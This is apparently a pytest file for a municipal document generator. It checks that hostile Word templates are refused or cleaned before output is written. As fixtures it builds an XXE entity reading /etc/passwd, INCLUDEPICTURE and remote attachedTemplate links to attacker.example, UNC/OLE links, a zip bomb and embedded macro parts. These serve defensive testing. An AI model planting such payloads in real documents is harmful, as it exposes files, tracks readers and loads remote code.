"""Templates carry nothing risky into the documents (reliability review findings 5 and 9).

Each hostile template is built from a plain Word document by editing its parts, the
way an attacker (or a careless template library) would. Every one is either refused
with a clear message before anything is written, or cleaned, with the user told
what was taken out.
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from conftest import CONFIGS
from kbfa.cli import main
from kbfa.errors import TemplateError
from kbfa.outputs.docx import load_template
from kbfa.outputs.docx._sanitise import MAX_UNPACKED_BYTES

LINDESBERG = str(CONFIGS / "lindesberg.toml")
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def base_template() -> bytes:
    """A plain template with its own header text, as a municipality's would have."""
    import docx

    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Kommunens mall"
    document.add_paragraph("Exempeltext i mallen")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def edit(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """The zip with parts replaced (bytes), removed (None) or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            if info.filename in changes:
                continue
            dst.writestr(info, src.read(info.filename))
        for name, blob in changes.items():
            if blob is not None:
                dst.writestr(name, blob)
    return out.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read(name)


def add_rel(data: bytes, rels_name: str, rel: str) -> bytes:
    rels = part(data, rels_name).replace(b"</Relationships>", rel.encode() + b"</Relationships>")
    return edit(data, {rels_name: rels})


def header_name(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return next(n for n in z.namelist() if re.fullmatch(r"word/header\d*\.xml", n))


def write(tmp_path: Path, data: bytes, name: str = "mall.docx") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def documents(
    tmp_path: Path, template: Path, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str, list[bytes]]:
    out = tmp_path / "ut"
    status = main(
        [
            "documents",
            LINDESBERG,
            "-o",
            str(out),
            "--template",
            str(template),
            "--as-of",
            "2026-11-23",
        ]
    )
    err = capsys.readouterr().err
    files = sorted(out.glob("*.docx")) if out.exists() else []
    return status, err, [f.read_bytes() for f in files]


def all_xml(docx_bytes: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as z:
        return b"\n".join(z.read(n) for n in z.namelist() if n.endswith((".xml", ".rels")))


def names(docx_bytes: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as z:
        return z.namelist()


class TestRefused:
    @pytest.mark.parametrize(
        "content_type",
        [
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        ],
    )
    def test_macro_enabled(
        self, tmp_path: Path, content_type: str, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """A .docm or .dotm is refused, saying why and what to do, nothing written."""
        data = base_template()
        types = part(data, "[Content_Types].xml").replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            content_type.encode(),
        )
        template = write(tmp_path, edit(data, {"[Content_Types].xml": types}), "mall.docm")
        status, err, files = documents(tmp_path, template, capsys)
        assert status == 2
        assert "mallen innehåller makron (.docm/.dotm)" in err
        assert "BytesIO" not in err
        assert files == []

    @pytest.mark.parametrize("part_name", ["word/styles.xml", "HEADER"])
    def test_a_doctype(
        self, tmp_path: Path, part_name: str, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """An entity declaration is refused (python-docx kept &xxe; and wrote broken XML)."""
        data = base_template()
        name = header_name(data) if part_name == "HEADER" else part_name
        xml = part(data, name)
        head, _, rest = xml.partition(b"?>")
        doctype = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        evil = head + b"?>" + doctype + rest.replace(b"Kommunens mall", b"&xxe;")
        template = write(tmp_path, edit(data, {name: evil}))
        status, err, files = documents(tmp_path, template, capsys)
        assert status == 2
        assert f"DOCTYPE- eller ENTITY-deklaration ({name})" in err
        assert files == []

    def test_a_field_that_fetches(self, tmp_path: Path) -> None:
        """An INCLUDEPICTURE field in the header (a tracking pixel on open) is refused."""
        data = base_template()
        name = header_name(data)
        field = (
            b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
            b' INCLUDEPICTURE "http://attacker.example/t.png" \\d </w:instrText></w:r>'
            b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
        xml = part(data, name).replace(b"</w:p>", field, 1)
        template = write(tmp_path, edit(data, {name: xml}))
        with pytest.raises(TemplateError, match=r"fältkoden INCLUDEPICTURE \(word/header"):
            load_template(template)

    def test_a_field_in_the_body_is_dropped_with_the_body(self, tmp_path: Path) -> None:
        """The template's sample text (its body after any letterhead) is never used, so a
        field there does not matter; one in the letterhead does (TestLetterhead)."""
        data = base_template()
        field = (
            b'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\srv\\\\x.doc&quot; "/></w:p>'
        )
        xml = part(data, "word/document.xml").replace(b"<w:sectPr", field + b"<w:sectPr", 1)
        template = write(tmp_path, edit(data, {"word/document.xml": xml}))
        assert b"INCLUDETEXT" not in all_xml(load_template(template).data)


class TestZipBomb:
    @pytest.fixture(scope="class")
    @classmethod
    def bomb(cls, tmp_path_factory: pytest.TempPathFactory) -> Path:
        """About 1 MB on disk with a 1 GiB image part, referenced from the header."""
        data = base_template()
        header = header_name(data)
        rels = header.replace("word/", "word/_rels/") + ".rels"
        out = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(data)) as src,
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
        ):
            for info in src.infolist():
                dst.writestr(info, src.read(info.filename))
            with dst.open("word/media/image1.png", "w", force_zip64=True) as f:
                chunk = b"\0" * (1 << 22)
                for _ in range(256):
                    f.write(chunk)
            if rels not in src.namelist():
                dst.writestr(
                    rels,
                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    f'<Relationship Id="rIdBomb" Type="{R}/image" Target="media/image1.png"/>'
                    "</Relationships>",
                )
        path = tmp_path_factory.mktemp("bomb") / "bomb.docx"
        path.write_bytes(out.getvalue())
        assert path.stat().st_size < 2 * 1024 * 1024
        return path

    def test_refused_before_inflating(self, bomb: Path) -> None:
        with pytest.raises(TemplateError, match=r"packas upp till 1024\.\d MB, mer än de 25\.0 MB"):
            load_template(bomb)

    def test_peak_memory_of_documents_stays_under_200_mb(self, bomb: Path, tmp_path: Path) -> None:
        """Measured: `kbfa documents --template bomb.docx` (0.1.0: 9.1 GiB) peaks below 200 MB."""
        if not Path("/proc/self/status").exists():
            pytest.skip("needs /proc to read the peak memory")
        # VmHWM is this process's own peak; ru_maxrss would include the forking parent's.
        code = (
            "import re\n"
            "from pathlib import Path\n"
            "from kbfa.cli import main\n"
            f"status = main(['documents', {LINDESBERG!r}, '-o', {str(tmp_path / 'ut')!r}, "
            f"'--template', {str(bomb)!r}])\n"
            "hwm = re.search(r'VmHWM:\\s*(\\d+)', Path('/proc/self/status').read_text())\n"
            "print(status, int(hwm.group(1)) // 1024)\n"
        )
        done = subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, check=True
        )
        status, peak_mb = map(int, done.stdout.split())
        assert status == 2
        assert peak_mb < 200, f"peak {peak_mb} MB"
        assert not (tmp_path / "ut").exists()

    def test_a_part_that_lies_about_its_size(self, tmp_path: Path) -> None:
        """A part declaring 1000 bytes that inflates to 64 MB is refused, not inflated."""
        data = base_template()
        big = 64 << 20
        out = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(data)) as src,
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
        ):
            for info in src.infolist():
                payload = src.read(info.filename)
                if info.filename == "word/styles.xml":
                    payload = payload + b" " * (big - len(payload))
                dst.writestr(info, payload)
        raw = bytearray(out.getvalue())
        for size in (big,):
            packed = size.to_bytes(4, "little")
            at = raw.find(packed)
            while at != -1:
                raw[at : at + 4] = (1000).to_bytes(4, "little")
                at = raw.find(packed, at + 4)
        template = write(tmp_path, bytes(raw))
        with pytest.raises(TemplateError, match="mallen är inte ett Word-dokument"):
            load_template(template)

    def test_too_many_parts(self, tmp_path: Path) -> None:
        data = edit(base_template(), {f"extra/{i}.xml": b"<x/>" for i in range(1001)})
        with pytest.raises(TemplateError, match=r"mallen har \d+ delar, fler än de 1000"):
            load_template(write(tmp_path, data))

    def test_the_cap_leaves_room_for_real_templates(self) -> None:
        """A template with a full-page logo is a few MB; the cap is well above it."""
        assert MAX_UNPACKED_BYTES >= 20 * 1024 * 1024


class TestCleaned:
    def test_a_remote_attached_template_is_dropped_and_named(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """Remote-template injection (MITRE T1221) is removed from every document."""
        data = base_template()
        settings_rels = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdEvil" Type="{R}/attachedTemplate" '
            'Target="http://attacker.example/evil.dotm" TargetMode="External"/></Relationships>'
        ).encode()
        settings = part(data, "word/settings.xml").replace(
            b"<w:zoom", b'<w:attachedTemplate r:id="rIdEvil"/><w:zoom', 1
        )
        if b'xmlns:r="' not in settings:
            settings = settings.replace(b"<w:settings ", f'<w:settings xmlns:r="{R}" '.encode(), 1)
        data = edit(
            data, {"word/_rels/settings.xml.rels": settings_rels, "word/settings.xml": settings}
        )
        status, err, files = documents(tmp_path, write(tmp_path, data), capsys)
        assert status == 0
        assert "extern länk till http://attacker.example/evil.dotm (attachedTemplate)" in err
        assert files
        for blob in files:
            xml = all_xml(blob)
            assert b"attacker.example" not in xml
            assert b"attachedTemplate" not in xml
            assert b'TargetMode="External"' not in xml

    def test_external_links_in_the_header_are_dropped(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """A tracking image and a UNC hyperlink in the header: gone; the header text stays."""
        data = base_template()
        header = header_name(data)
        rels_name = header.replace("word/", "word/_rels/") + ".rels"
        rels = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdPix" Type="{R}/image" Target="http://attacker.example/track.png" TargetMode="External"/>'
            f'<Relationship Id="rIdUnc" Type="{R}/hyperlink" Target="file://attacker/share" TargetMode="External"/>'
            f'<Relationship Id="rIdOle" Type="{R}/oleObject" Target="\\\\attacker\\share\\x.doc" TargetMode="External"/>'
            "</Relationships>"
        ).encode()
        xml = part(data, header)
        if b'xmlns:r="' not in xml:
            xml = xml.replace(b"<w:hdr ", f'<w:hdr xmlns:r="{R}" '.encode(), 1)
        xml = xml.replace(
            b"</w:p>",
            b'<w:hyperlink r:id="rIdUnc"><w:r><w:t>dela</w:t></w:r></w:hyperlink></w:p>',
            1,
        )
        data = edit(data, {rels_name: rels, header: xml})
        status, err, files = documents(tmp_path, write(tmp_path, data), capsys)
        assert status == 0
        assert "extern länk till http://attacker.example/track.png (image)" in err
        assert "file://attacker/share (hyperlink)" in err
        for blob in files:
            xml_all = all_xml(blob)
            assert b"attacker" not in xml_all
            assert b"Kommunens mall" in xml_all  # the municipality's header is kept

    def test_macro_code_custom_xml_and_properties_do_not_travel(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """vbaProject.bin in a .docx, customXml, custom and app properties: none in any output."""
        data = base_template()
        data = add_rel(
            data,
            "word/_rels/document.xml.rels",
            f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
            f'<Relationship Id="rIdCx" Type="{R}/customXml" Target="../customXml/item1.xml"/>',
        )
        data = add_rel(
            data,
            "_rels/.rels",
            f'<Relationship Id="rIdCp" Type="{R}/custom-properties" Target="docProps/custom.xml"/>',
        )
        app = part(data, "docProps/app.xml").replace(
            b"</Properties>",
            b"<Company>Hemliga AB</Company><Manager>Anna Andersson</Manager></Properties>",
        )
        data = edit(
            data,
            {
                "word/vbaProject.bin": b"MACRO-BLOB" * 100,
                "customXml/item1.xml": b"<personnummer>19121212-1212</personnummer>",
                "docProps/custom.xml": b"<Properties><property name='Diarienr'>hemligt</property></Properties>",
                "docProps/app.xml": app,
            },
        )
        status, err, files = documents(tmp_path, write(tmp_path, data), capsys)
        assert status == 0
        assert "makrokod (word/vbaProject.bin)" in err
        assert "anpassad XML (customXml/item1.xml)" in err
        assert "egna dokumentegenskaper (docProps/custom.xml)" in err
        for blob in files:
            parts = names(blob)
            assert not any(p.startswith(("customXml/", "word/vbaProject")) for p in parts)
            assert "docProps/custom.xml" not in parts
            content = all_xml(blob)
            for secret in (
                b"MACRO-BLOB",
                b"19121212",
                b"Hemliga AB",
                b"Anna Andersson",
                b"hemligt",
            ):
                assert secret not in content

    def test_an_empty_custom_properties_part_is_not_reported(self, tmp_path: Path) -> None:
        """LibreOffice writes this empty part into every Word file it saves: dropped, but
        there is nothing to tell; one with a property is still named (above)."""
        data = add_rel(
            base_template(),
            "_rels/.rels",
            f'<Relationship Id="rIdCp" Type="{R}/custom-properties" Target="docProps/custom.xml"/>',
        )
        empty = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
            b'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"></Properties>'
        )
        loaded = load_template(write(tmp_path, edit(data, {"docProps/custom.xml": empty})))
        assert loaded.removed == ()
        assert "docProps/custom.xml" not in names(loaded.data)

    @pytest.mark.slow
    def test_a_template_saved_again_by_libreoffice_is_not_reported(self, tmp_path: Path) -> None:
        """A Word template opened and saved in LibreOffice (what a municipality without Word
        does) carries nothing to report: no "togs bort" line for the coordinator."""
        import shutil

        if shutil.which("soffice") is None:
            if os.environ.get("CI", "").lower() == "true":
                pytest.fail("soffice saknas")
            pytest.skip("soffice saknas (install libreoffice-writer)")
        source = write(tmp_path, base_template(), "word.docx")
        subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation={(tmp_path / 'profil').as_uri()}",
                "--headless",
                "--convert-to",
                "docx:MS Word 2007 XML",
                "--outdir",
                str(tmp_path / "lo"),
                str(source),
            ],
            check=True,
            capture_output=True,
            timeout=300,
        )
        saved = tmp_path / "lo" / "word.docx"
        assert "docProps/custom.xml" in names(saved.read_bytes())  # what LibreOffice adds
        loaded = load_template(saved)
        assert loaded.removed == ()
        assert all("togs bort" not in n for n in loaded.notices())

    def test_a_clean_template_is_not_reported(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """An ordinary template gives no notice at all."""
        status, err, files = documents(tmp_path, write(tmp_path, base_template()), capsys)
        assert (status, err) == (0, "")
        assert files

    def test_the_report_with_a_cleaned_template_opens(self, tmp_path: Path) -> None:
        """The cleaned template still gives a document python-docx opens, header and all."""
        import docx

        out = tmp_path / "r.docx"
        assert (
            main(
                [
                    "report",
                    LINDESBERG,
                    "-o",
                    str(out),
                    "--template",
                    str(write(tmp_path, base_template())),
                ]
            )
            == 0
        )
        document = docx.Document(str(out))
        assert document.sections[0].header.paragraphs[0].text == "Kommunens mall"
        assert "Exempeltext i mallen" not in "\n".join(p.text for p in document.paragraphs)


def letterhead_template(tmp_path: Path, *, field: str = "", link: bool = False) -> Path:
    """A template whose body opens with a letterhead table holding a logo (an internal
    picture), then sample text; optionally a field or an external link in the letterhead."""
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml
    from PIL import Image

    logo = tmp_path / "logo.png"
    Image.new("RGB", (40, 20), (31, 56, 100)).save(logo)
    document = docx.Document()
    head = document.add_table(rows=1, cols=2)
    head.cell(0, 0).paragraphs[0].add_run().add_picture(str(logo))
    head.cell(0, 1).text = "Provkommun, Kommunstyrelsen"
    cell = head.cell(0, 1).paragraphs[0]
    if link:
        rid = document.part.relate_to("https://spårning.example/brev", RT.HYPERLINK, is_external=True)
        cell._p.append(
            parse_xml(
                f'<w:hyperlink xmlns:w="{W}" xmlns:r="{R}" r:id="{rid}"><w:r><w:t>webb</w:t></w:r></w:hyperlink>'
            )
        )
    if field:
        instr = field.replace('"', "&quot;")
        cell._p.append(parse_xml(f'<w:fldSimple xmlns:w="{W}" w:instr="{instr}"/>'))
    document.add_paragraph("Exempeltext i mallen")
    path = tmp_path / "brevhuvud.docx"
    document.save(str(path))
    return path


class TestLetterhead:
    """The letterhead documents keeps from the template's body (word review m15) passes the
    same cleaning as the rest of the template: kept with its logo, checked like a header."""

    def test_the_logo_travels_and_the_sample_text_does_not(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        import docx

        status, err, files = documents(tmp_path, letterhead_template(tmp_path), capsys)
        assert (status, err) == (0, "")
        for blob in files:
            document = docx.Document(io.BytesIO(blob))
            first = document.element.body[0]
            assert first.tag == f"{{{W}}}tbl"
            assert "Provkommun, Kommunstyrelsen" in "".join(first.itertext())
            embeds = [e.get(f"{{{R}}}embed") for e in first.iter() if e.get(f"{{{R}}}embed")]
            assert embeds, "the logo's picture reference is kept"
            for rid in embeds:  # and each resolves to the picture itself
                assert document.part.related_parts[rid].content_type == "image/png"
            assert b"Exempeltext i mallen" not in all_xml(blob)

    def test_a_fetching_field_in_the_letterhead_is_refused(self, tmp_path: Path) -> None:
        """Before the merge the body was dropped whole; now that the letterhead is kept, a
        field in it that fetches from elsewhere is refused like one in a header."""
        template = letterhead_template(tmp_path, field=' INCLUDEPICTURE "http://x.example/p.png" ')
        with pytest.raises(TemplateError, match=r"fältkoden INCLUDEPICTURE \(word/document.xml\)"):
            load_template(template)

    def test_an_external_link_in_the_letterhead_is_dropped_and_named(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        status, err, files = documents(tmp_path, letterhead_template(tmp_path, link=True), capsys)
        assert status == 0
        assert "extern länk till https://spårning.example/brev (hyperlink)" in err
        for blob in files:
            xml = all_xml(blob)
            assert "spårning".encode() not in xml
            assert b"Provkommun, Kommunstyrelsen" in xml

    def test_what_comes_before_a_kbfa_bookmark_is_kept(self, tmp_path: Path) -> None:
        """Paragraphs (no table) before a bookmark named kbfa are the letterhead: kept
        through both steps; the bookmark's paragraph and what follows go."""
        import docx
        from docx.oxml import parse_xml

        from kbfa.outputs.docx import BuildContext, build_documents, text_of
        from kbfa.outputs.docx._template import open_docx

        document = docx.Document()
        document.add_paragraph("Provkommun · Kommunstyrelsen")
        document.add_paragraph("Diarienummer: ____")
        marker = document.add_paragraph("Här börjar texten")
        marker._p.insert(0, parse_xml(f'<w:bookmarkStart xmlns:w="{W}" w:id="7" w:name="kbfa"/>'))
        marker._p.append(parse_xml(f'<w:bookmarkEnd xmlns:w="{W}" w:id="7"/>'))
        document.add_paragraph("Exempeltext i mallen")
        path = tmp_path / "bokmarke.docx"
        document.save(str(path))
        loaded = load_template(path)
        body = open_docx(loaded.data).element.body
        assert "Exempeltext" not in "".join(body.itertext())
        from kbfa.config import load

        for built in build_documents(load(LINDESBERG).governance, BuildContext(template=loaded)):
            text = text_of(built.document)
            assert text.startswith("Provkommun · Kommunstyrelsen\nDiarienummer: ____\n")
            assert "Här börjar texten" not in text
            assert "Exempeltext i mallen" not in text


class TestBothNotices:
    def test_removed_parts_then_added_styles(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """A template that needs cleaning and lacks styles: cleaned first, styles added to
        the cleaned template, and the user told both, in that order, on stderr."""
        import docx

        data = add_rel(
            base_template(),
            "word/_rels/document.xml.rels",
            f'<Relationship Id="rIdCx" Type="{R}/customXml" Target="../customXml/item1.xml"/>',
        )
        data = edit(data, {"customXml/item1.xml": b"<hemligt>19121212-1212</hemligt>"})
        document = docx.Document(io.BytesIO(data))
        for name in ("Caption", "Table Grid"):
            document.styles.element.remove(document.styles[name].element)
        out = io.BytesIO()
        document.save(out)
        template = write(tmp_path, out.getvalue())
        loaded = load_template(template)
        assert loaded.removed == ("anpassad XML (customXml/item1.xml)",)
        assert loaded.added == ("Caption", "Table Grid")
        status, err, files = documents(tmp_path, template, capsys)
        assert status == 0
        lines = err.splitlines()
        assert len(lines) == 2
        assert "togs bort ur mallen" in lines[0] and "customXml/item1.xml" in lines[0]
        assert "mallen saknade formatmallarna Caption, Table Grid" in lines[1]
        for blob in files:
            assert b"19121212" not in all_xml(blob)
            assert b"Table Grid" in all_xml(blob) or b"TableGrid" in all_xml(blob)

    def test_report_says_both_too(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        import docx

        data = add_rel(
            base_template(),
            "word/_rels/document.xml.rels",
            f'<Relationship Id="rIdCx" Type="{R}/customXml" Target="../customXml/item1.xml"/>',
        )
        data = edit(data, {"customXml/item1.xml": b"<hemligt>x</hemligt>"})
        document = docx.Document(io.BytesIO(data))
        document.styles.element.remove(document.styles["Subtitle"].element)
        out = io.BytesIO()
        document.save(out)
        template = write(tmp_path, out.getvalue())
        target = tmp_path / "r.docx"
        assert main(["report", LINDESBERG, "-o", str(target), "--template", str(template)]) == 0
        err = capsys.readouterr().err
        assert err.index("togs bort ur mallen") < err.index("mallen saknade formatmallarna Subtitle")
